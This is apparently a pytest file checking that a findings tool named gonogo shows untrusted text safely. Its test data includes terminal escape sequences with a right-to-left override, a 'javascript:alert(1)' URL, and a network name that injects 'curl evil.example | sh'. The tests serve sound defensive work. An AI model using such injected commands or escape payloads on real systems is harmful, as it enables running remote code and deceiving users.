"""What others wrote about findings neither moves the cursor nor gets into a shell."""

import json
from pathlib import Path

import pytest

from gonogo.cli import finding_words
from gonogo.cli.signing import table
from gonogo.people import ActKind
from gonogo.printable import printable
from gonogo.project import sign_act
from gonogo.record import AnnotationBody, FindingBody, RatingBody
from gonogo.triage import FindingView
from tests.unit.steps.founders import ADA, CAROL
from tests.unit.triage.desks import CANDIDATE, NET, Office, office

EVIL = "\x1b]0;owned\x07\x1b[2J\u202eevil\nturn: nobody"
DEPLOYED = "sha256:" + "d" * 64


@pytest.fixture
def team(tmp_path: Path) -> Office:
    return office(tmp_path)


def shown(view: FindingView) -> str:
    """Return everything that the commands show of a finding."""
    lines = [
        finding_words.heading(view.outlook),
        *finding_words.rows(view),
        *table(finding_words.details(view)),
        *finding_words.history(view),
        *(printable(each) for each in finding_words.what_resolves(view)),
        *(printable(each) for each in view.next_commands),
    ]
    return "\n".join(lines)


def is_plain(text: str) -> bool:
    return all(letter == "\n" or letter.isprintable() for letter in text)


def report(team: Office, **given: str | None) -> FindingView:
    """Let Carol sign a finding by another program than ours."""
    body = FindingBody(
        **{
            "network": NET,
            "deployment": DEPLOYED,
            "candidate": CANDIDATE,
            "chain": None,
            "requirement": None,
            "title": EVIL,
            "description": EVIL,
            "impact": EVIL,
            "severity": None,
            "owning_team": EVIL,
            "tracker_url": "javascript:alert(1)",
            **given,
        }  # type: ignore[arg-type]  # Texts, or None.
    )
    desk = team.desk(CAROL)
    team.wait(60)
    sign_act(desk.project, ActKind.FINDING, body, CAROL.signer, team.clock)
    (view,) = team.findings(str(given.get("network", NET)))
    return view


def test_what_others_wrote_is_shown_as_text(team: Office) -> None:
    """No escape, nothing that turns text around, and no line that looks like ours."""
    view = report(team)
    for body in (
        RatingBody(view.finding.id, 1, EVIL, EVIL),
        AnnotationBody(view.finding.id, EVIL, "data:text/html,x", None),
    ):
        kind = ActKind.RATING if isinstance(body, RatingBody) else ActKind.ANNOTATION
        sign_act(team.project, kind, body, ADA.signer, team.clock)
    (view,) = team.findings()

    told = shown(view)

    assert is_plain(told)
    assert "\nturn: nobody" not in told
    assert "javascript:" not in told
    assert "is no web address" in told


def test_a_tracker_that_runs_something_is_not_handed_on(team: Office) -> None:
    """Not in JSON either, which others make links of."""
    told = finding_words.document(report(team))

    assert told["tracker_url"] is None
    assert is_plain(json.dumps(told))


def test_the_name_of_a_network_gets_into_no_shell(team: Office) -> None:
    """A command that is meant to be copied quotes what others named."""
    name = "x; curl evil.example | sh #"
    team.observe(network=name, policy="rehearsal", block_rate="failed")
    (view,) = team.findings(name)

    commands = [each for each in view.next_commands if "eval" in each or "curl" in each]

    assert all(f"'{name}'" in each for each in commands)
    assert is_plain(shown(view))
